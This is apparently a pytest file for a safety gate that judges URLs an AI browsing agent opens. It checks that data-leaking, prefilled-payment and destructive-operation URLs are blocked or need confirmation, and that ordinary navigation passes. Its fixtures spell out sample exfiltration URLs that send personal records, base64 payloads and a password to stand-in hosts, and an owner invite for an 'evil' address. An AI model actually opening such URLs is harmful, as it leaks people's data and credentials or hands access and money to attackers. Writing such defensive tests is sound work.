"""What opening a URL does (gate/rules/navigate.py): the data its query carries out, judged by where it goes,
and the operation its path and query name (`[url-consequence.*]` of resources/cues.toml). Every class has a
trigger and an ordinary navigation next to it that must stay quiet. Our own URLs, written from how banks,
exchanges, smart-home apps, cloud consoles and account settings lay out their addresses."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

from gate import SafetyGate, action_from_dict
from gate.cues import parse_cues
from gate.model import Decision, Observation
from gate.rules.navigate import registrable, url_words

GATE = SafetyGate()


def nav(url: str, page: str = ""):
    action = action_from_dict({"type": "navigate", "url": url})
    return GATE.assess(action, Observation(url=page)) if page else GATE.assess(action)


def fired(url: str, page: str = "") -> tuple[Decision, list[str]]:
    a = nav(url, page)
    return a.decision, list(a.rules)


# -- data carried out -------------------------------------------------------------------------------------

TWO_PEOPLE = "Ana Ruiz +1 415 555 0142\nBen Okafor +1 415 555 0199"
RECORDS_JSON = json.dumps([{"name": "Ana Ruiz", "phone": "+1 415 555 0142"},
                           {"name": "Ben Okafor", "phone": "+1 415 555 0199"}])


@pytest.mark.parametrize("url", [
    # names and phone numbers, one per line, posted through a notes service's GET endpoint
    "https://notes-share.example.org/api/post?text=" + quote(TWO_PEOPLE),
    # the same people as a JSON list, then base64 of it
    "https://ingest.example-metrics.net/e?payload=" + quote(RECORDS_JSON),
    "https://ingest.example-metrics.net/e?p=" + base64.b64encode(RECORDS_JSON.encode()).decode(),
    # two street addresses in one value, encoded twice
    "https://sink.example.com/a?v=" + quote(quote("12 Oak Street, 99 Elm Road")),
    # three people's phone numbers, one parameter each
    "https://sink.example.com/a?n1=Ana&p1=%2B14155550142&n2=Ben&p2=%2B14155550199&n3=Cy&p3=%2B14155550123",
    # in the path, and as a base64 fragment
    "https://notes-share.example.org/api/post/" + quote(TWO_PEOPLE),
    "https://drop.example.net/u#" + base64.b64encode(RECORDS_JSON.encode()).decode(),
])
def test_several_peoples_records_to_another_site_block(url):
    decision, rules = fired(url)
    assert decision is Decision.BLOCK and "block.nav.records-out" in rules, rules


def test_a_login_to_another_site_than_the_page_blocks():
    url = "https://forms.example.net/r?user=sam.lee&password=Tr0ub4dor%2633"
    decision, rules = fired(url, page="https://mail.example.com/inbox")
    assert decision is Decision.BLOCK and "block.nav.records-out" in rules, rules


@pytest.mark.parametrize("url", [
    "https://stats.example.net/p?u=maria.gomez%40mailbox.example&addr=742%20Evergreen%20Terrace",
    "https://stats.example.net/p?d=" + quote(json.dumps({"email": "maria@mailbox.example",
                                                         "street": "742 Evergreen Terrace"})),
])
def test_one_persons_details_to_another_site_ask(url):
    decision, rules = fired(url)
    assert decision is Decision.CONFIRM and "confirm.nav.personal-data-out" in rules, rules


@pytest.mark.parametrize("url, page", [
    # a search, even for an address
    ("https://www.google.com/search?q=742+Evergreen+Terrace+maria%40mailbox.example", ""),
    # the page's own analytics beacon
    ("https://stats.shop.example.com/c?u=maria%40mailbox.example&addr=742%20Evergreen%20Terrace",
     "https://shop.example.com/account"),
    # this machine
    ("http://localhost:8080/p?u=maria%40mailbox.example&addr=742%20Evergreen%20Terrace", ""),
    # a sign-in redirect and an OAuth request that names the account
    ("https://accounts.example.com/login?next=%2Faccount%2Fsettings", ""),
    ("https://login.example.com/oauth2/authorize?client_id=abc&response_type=code&scope=openid%20email"
     "&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&login_hint=jane%40corp.example&state=x1y2", ""),
    # two bare phone numbers: a call log's filter, not two people's records
    ("https://console.telco.example/calls?from=%2B14155550142&to=%2B14155550199", ""),
    # an e-mail alone, and a shop's product page
    ("https://news.example.com/unsub-confirm?e=jane%40corp.example", ""),
    ("https://shop.example.com/products/usb-c-hub-7-in-1?color=grey", ""),
])
def test_ordinary_parameters_are_not_data_out(url, page):
    decision, rules = fired(url, page)
    assert not [r for r in rules if r.startswith(("block.nav.", "confirm.nav."))], rules
    assert decision is not Decision.BLOCK


def test_two_e_mail_addresses_alone_are_not_two_records():
    # docs/known-limits.md: people are counted by line, JSON object, phone number or street address
    decision, rules = fired("https://share.example.net/s?who=ana%40x.example%2Cben%40y.example")
    assert "block.nav.records-out" not in rules and decision is not Decision.BLOCK, rules


def test_a_login_in_a_url_with_no_page_known_only_asks():
    decision, rules = fired("https://app.example.net/r?user=sam.lee&password=Tr0ub4dor%2633")
    assert decision is Decision.CONFIRM and "block.nav.records-out" not in rules, rules


# -- money ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "https://www.exchange.example/en/my/wallet/withdrawal/crypto/BTC?address=bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
    "&amount=2.5",
    "https://wallet.example.com/send?recipient=0x52908400098527886E0F7030069857D2E4169EE7&value=3.2",
    "https://bank.example.com/transfer?to=DE89370400440532013000&amount=5000",
    "https://online.example-bank.de/ueberweisung?iban=DE89370400440532013000&betrag=2500",
    "https://exchange.example.com/retiro?destino=TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE&monto=500",
])
def test_money_with_destination_and_amount_filled_in_blocks(url):
    decision, rules = fired(url)
    assert decision is Decision.BLOCK and "block.nav.prefilled-payment" in rules, rules


def test_money_with_only_a_recipient_asks():
    decision, rules = fired("https://pay.example.com/send?recipient=payee%40mail.example")
    assert decision is Decision.CONFIRM and "confirm.nav.consequence" in rules, rules


@pytest.mark.parametrize("url", [
    "https://money.example.com/us/send-money?amount=100&to=EUR",  # a price calculator: no payee
    "https://pay.example.com/pay/invoice/8841?amount=120.00",
])
def test_money_with_only_an_amount_passes(url):
    decision, rules = fired(url)
    assert "confirm.nav.consequence" not in rules and decision is not Decision.BLOCK, rules


@pytest.mark.parametrize("url", [
    "https://bank.example.com/accounts/statements",
    "https://www.exchange.example/en/markets/overview",
    "https://wise.example.com/currency-converter/usd-to-eur-rate?amount=100",
    "https://www.exchange.example/en/my/wallet/history/deposit-crypto",
])
def test_money_pages_without_an_operation_pass(url):
    decision, rules = fired(url)
    assert decision is Decision.ALLOW, rules


# -- the operation a URL names ----------------------------------------------------------------------------

@pytest.mark.parametrize("url", [
    # devices
    "https://home.smartlock.example/api/locks/front-door/unlock",
    "https://portal.alarmco.example/system/disarm?zone=all",
    "https://home.example-hub.com/devices/garage-door/open",
    "https://app.homecam.example/alarm/mode?state=disarmed",
    "https://lock.example.com/#/lock/7/unlock",
    # infrastructure, repositories, accounts
    "https://console.cloud.example.com/kubernetes/clusters/prod-main/delete",
    "https://console.example.com/rds/home?region=us-east-1#database:id=prod-db;action=delete",
    "https://manage.example.com/api/v2/deleteCluster?name=prod-east",
    "https://example.es/cuenta/eliminar-cuenta",
    "https://example.de/einstellungen/konto-löschen",
    # personal data archives
    "https://you.genetics.example/user/data/download/?type=genome",
    "https://portal.clinic.example/patient/records/download?all=true",
    "https://online.bank.example/accounts/transactions/export?format=csv&range=all",
    # roles and access
    "https://git.example.com/acme/infra/settings/access?invite=eve&role=admin",
    "https://admin.example.com/users/42/grant?role=owner",
    "https://app.example.com/team/invite?email=mallory%40evil.example&role=owner",
    "https://servicedesk.example.com/portal/request/change-access?user=jdoe&group=domain-admins",
    # sign-in and recovery
    "https://support.example.com/portal/account/change-email?new=someone%40mail.example",
    "https://id.example.com/account/security/mfa/remove",
    "https://example.com/konto/passwort/ändern",
])
def test_a_url_that_names_a_consequential_operation_asks(url):
    decision, rules = fired(url)
    assert decision is Decision.CONFIRM and "confirm.nav.consequence" in rules, rules


@pytest.mark.parametrize("url", [
    # documentation, articles, questions, searches about the same operations
    "https://docs.example.com/rds/latest/UserGuide/USER_DeleteInstance.html",
    "https://kubernetes.example.io/docs/tasks/administer-cluster/",
    "https://stackoverflow.com/questions/7073773/how-do-i-delete-a-database-in-postgresql",
    "https://news.example.com/2024/05/01/tech/how-to-delete-your-social-account.html",
    "https://wiki.example.com/display/ENG/Delete+Cluster+Runbook",
    "https://www.google.com/search?q=unlock+front+door+smart+lock",
    "https://duckduckgo.com/?q=delete+database+postgres",
    # a repository or a package whose name is a verb phrase
    "https://github.com/acme/delete-old-branches",
    "https://pypi.org/project/delete-cluster/",
    # settings pages that only show
    "https://github.com/settings/profile",
    "https://github.com/settings/security",
    "https://github.com/acme/infra/settings/access",
    "http://gitlab.local:8023/-/user_settings/ssh_keys",
    "https://myaccount.example.com/signinoptions/two-step-verification",
    # devices, health and shops, looked at
    "https://home.smartlock.example/locks",
    "https://you.genetics.example/reports/",
    "https://www.shop.example/b/Doors-Windows-Garage-Doors/N-5yc1v",
    "https://www.shop.example/s?searchTerm=smart+lock",
    "https://www.shop.example/c/door-lock",
    "https://www.shop.example/products/smart-lock/front-door",
    "https://mychart.example.org/MyChart/app/test-results",
    "https://accounts.example.com/forgot-password",
])
def test_ordinary_navigation_passes(url):
    decision, rules = fired(url)
    assert decision is Decision.ALLOW, rules


def test_a_url_typed_into_the_address_bar_is_read_the_same_way():
    a = GATE.assess(action_from_dict({"type": "type", "text": "https://home.smartlock.example/api/locks/front-door/unlock\n",
                                      "target": {"label": "Address and search bar"}}))
    assert a.decision is Decision.CONFIRM and "controlling a lock" in a.reason, (a.rules, a.reason)


def test_a_clicked_link_that_shows_a_prefilled_payment_blocks():
    url = "https://wallet.example.com/send?recipient=0x52908400098527886E0F7030069857D2E4169EE7&value=3.2"
    a = GATE.assess(action_from_dict({"type": "click", "x": 1, "y": 1, "target": {"label": url, "role": "link"}}))
    assert a.decision is Decision.BLOCK and "block.web.link-target" in a.rules, a.rules


def test_the_risk_is_the_kinds():
    a = nav("https://portal.alarmco.example/system/disarm?zone=all")
    assert a.decision is Decision.CONFIRM and a.risk.name == "HIGH", (a.rules, a.risk)


def test_the_reason_names_the_operation_and_the_host():
    a = nav("https://home.smartlock.example/api/locks/front-door/unlock")
    assert "home.smartlock.example" in a.reason and "unlock" in a.reason


def test_url_words_split_humps_and_punctuation():
    assert url_words("deleteCluster") == "delete cluster"
    assert url_words("front-door_unlock.json") == "front door unlock json"


def test_registrable_site():
    assert registrable("stats.shop.example.com") == "example.com"
    assert registrable("www.bbc.co.uk") == "bbc.co.uk"
    assert registrable("203.0.113.9") == "203.0.113.9"


def test_url_consequence_tables_load_and_are_checked():
    book = parse_cues("[navigation]\nen = ['next']\n[url-consequence.x]\nrisk = 'high'\nen = ['\\\\bdisarm\\\\b']\n"
                      "[url-prefill]\ndestination = ['To']\n")
    assert [k.name for k in book.url_consequence] == ["x"]
    assert book.url_prefill["destination"] == frozenset({"to"})
    with pytest.raises(ValueError, match="url-prefill"):
        parse_cues("[navigation]\nen = ['next']\n[url-prefill]\ndestination = 'to'\n")
    with pytest.raises(ValueError, match=r"url-consequence\.y"):
        parse_cues("[navigation]\nen = ['next']\n[url-consequence.y]\nen = ['(']\n")
